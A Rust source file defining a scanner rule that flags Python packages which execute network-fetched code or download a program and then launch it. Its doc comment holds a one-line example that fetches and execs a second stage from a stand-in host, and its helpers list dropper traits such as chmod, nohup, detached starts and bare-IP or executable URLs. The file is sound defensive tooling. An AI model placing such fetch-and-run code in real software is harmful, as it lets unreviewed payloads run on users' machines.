//! PY002 download-then-exec.

use crate::context::{CodeFile, Cx};
use assay_core::{Capability, Finding, Severity};
use assay_lang::{Event, EventKind, Taint};

declare_rule! {
    /// ## What it does
    /// Flags `exec`/`eval`/`compile` of data that came from the network (`urlopen(...).read()`,
    /// `requests.get(...).text`, sockets), and downloads written to disk that the same file
    /// then starts as a process. The download and the start may sit in helper functions of
    /// the same file (`get(url, path)` writes the response to `path`, `start(path)` runs
    /// it): a caller that hands both the same argument completes the chain. A helper that
    /// only passes the file to another program (`tar xf {path}`) does not run it.
    ///
    /// ## Why it matters
    /// A package that fetches its real payload at install or import time can change what it
    /// does after review, per victim and per day: the second stage never appears in the
    /// published artifact. This is the classic dropper shape.
    ///
    /// ## Example
    /// ```python
    /// import urllib.request
    /// exec(urllib.request.urlopen("https://example.invalid/stage2").read())
    /// ```
    ///
    /// ## False positives
    /// Very rare: installers of self-updating tools occasionally download and run an
    /// installer in runtime code (severity high there, critical when automatic). Code
    /// received on a raw socket (`recv`) and executed is critical in any context: that is
    /// a stager, and benign clients do not run what a bare socket sends them. So is a
    /// function that writes network bytes to a file and then runs that same file (named
    /// in the command, also through f-strings) when the file is plainly a program: fetched
    /// from a bare IP or with an executable name, or made executable (`chmod +x`) or
    /// started detached (`&`, `start /B`). Updaters and browser installers keep download
    /// and launch apart and fetch from vendor hosts.
    ///
    /// ## References
    /// - CWE-494: Download of Code Without Integrity Check
    /// - MITRE ATT&CK T1105 (Ingress Tool Transfer)
    pub static META = DownloadThenExec;
}

/// Check one Python text (the engine calls this per Python text of the rule's targets).
pub fn check_file(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) {
    let events = &f.analysis.events;
    let demote = |s: Severity| {
        if f.is_test_or_doc() {
            Severity::Medium
        } else {
            s
        }
    };
    for e in events
        .iter()
        .filter(|e| e.kind == EventKind::Exec && e.taint.has(Taint::NETWORK))
    {
        // Code read straight off a raw socket is a stager in any context: clients
        // and updaters fetch over HTTP(S) from a vendor host, they do not `recv()`
        // code from a bare socket and run it.
        let stager = e.taint.has(Taint::SOCKET);
        let sev = if stager {
            demote(Severity::Critical)
        } else {
            demote(META.rule.severity_in(e.context))
        };
        let what = if stager { "socket" } else { "network" };
        let mut x = cx.event_finding(
            &META,
            f,
            e,
            sev,
            format!("{} of {what} data: {}", e.api, e.snippet),
        );
        x.capabilities = vec![Capability::CodeExec, Capability::Network];
        out.push(x);
    }
    // download → run: a download (or a network read written to a file) and a process
    // start in the same execution context of the same file.
    // Helpers of the same file count too: `get(url, path)` that writes the download to
    // the file its argument names, `start(path)` that runs it (CallDownloadsTo/CallRuns).
    let downloads = events.iter().filter(|e| {
        matches!(e.kind, EventKind::Download | EventKind::CallDownloadsTo)
            || (e.kind == EventKind::FileWrite && e.taint.has(Taint::NETWORK))
    });
    for d in downloads {
        let Some(run) = events.iter().find(|p| {
            matches!(p.kind, EventKind::ProcessSpawn | EventKind::CallRuns)
                && p.context == d.context
                && p.line >= d.line
        }) else {
            continue;
        };
        // A dropper in any context: the same function writes network bytes to a file,
        // runs that very file, and the file is plainly a program fetched from a bare
        // IP or an executable name, or it is made executable / started in the
        // background. Updaters and browser installers keep download and launch apart.
        let tight = d.function.is_some()
            && run.function == d.function
            && events
                .iter()
                .filter(|w| std::ptr::eq(*w, d) || assay_lang::opens_file_of(w, d))
                .any(|w| runs_written_file(w, run));
        // At runtime only a start of the very file the same function wrote counts:
        // build tools download archives and start unrelated tools later (meson wraps).
        if !d.context.is_automatic() && !tight {
            continue;
        }
        let dropper = tight
            && (dropper_shape(run)
                || dropper_shape(d)
                || source_url(events, d).is_some_and(|u| executable_url(&u)));
        let sev = if dropper {
            demote(Severity::Critical)
        } else {
            demote(META.rule.severity_in(d.context))
        };
        let mut x = cx.event_finding(
            &META,
            f,
            run,
            sev,
            format!("downloads ({}) then runs: {}", d.snippet, run.snippet),
        );
        x.capabilities = vec![Capability::Process, Capability::Network];
        out.push(x);
    }
}

/// Whether the process start names the file the write produced: the same variable or
/// path expression (`open(name, 'wb')` … `os.system(f'./{name} &')`, `Popen(p)`), or,
/// for helpers of the same file, the same argument (`get(u, p)` … `start(p)`).
fn runs_written_file(write: &Event, run: &Event) -> bool {
    let target = if write.kind == EventKind::CallDownloadsTo {
        write.arg.as_deref()
    } else {
        assay_lang::nth_arg(&write.snippet, 0)
    };
    let Some(target) = target else {
        return false;
    };
    if run.kind == EventKind::CallRuns {
        return run.arg.as_deref() == Some(target);
    }
    let target = target.trim_matches(|c| c == '"' || c == '\'');
    if target.len() < 2
        && !target
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        return false;
    }
    let cmd = run.arg.as_deref().unwrap_or_default();
    let words = |t: &str| {
        t.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
            .any(|w| w == target)
    };
    words(&run.snippet) || words(cmd) || (target.len() > 3 && cmd.contains(target))
}

/// Backgrounded, detached or made-executable starts, and executable file names.
fn dropper_shape(e: &Event) -> bool {
    let t = format!("{} {}", e.snippet, e.arg.as_deref().unwrap_or_default()).to_ascii_lowercase();
    t.contains("chmod")
        || t.contains("start /b")
        || t.contains("&'")
        || t.contains("& '")
        || t.contains("&\"")
        || t.contains("nohup")
        || [".exe", ".scr", ".bat", ".vbs", ".msi"]
            .iter()
            .any(|x| t.contains(x))
}

/// The URL of the network read in the same function just before a write, when folded.
fn source_url(events: &[Event], write: &Event) -> Option<String> {
    events
        .iter()
        .filter(|e| {
            matches!(e.kind, EventKind::Network | EventKind::Download)
                && e.function == write.function
                && e.line <= write.line
        })
        .filter_map(|e| e.arg.clone())
        .next_back()
}

/// A URL whose host is a bare IPv4 address or whose path ends in an executable.
fn executable_url(u: &str) -> bool {
    let l = u.to_ascii_lowercase();
    let host = l
        .split("://")
        .nth(1)
        .and_then(|r| r.split(['/', ':']).next())
        .unwrap_or_default();
    let raw_ip = host.split('.').count() == 4 && host.split('.').all(|p| p.parse::<u8>().is_ok());
    raw_ip
        || [".exe", ".scr", ".bat", ".msi", ".bin", ".elf", ".sh"]
            .iter()
            .any(|x| l.split(['?', '#']).next().unwrap_or_default().ends_with(x))
}
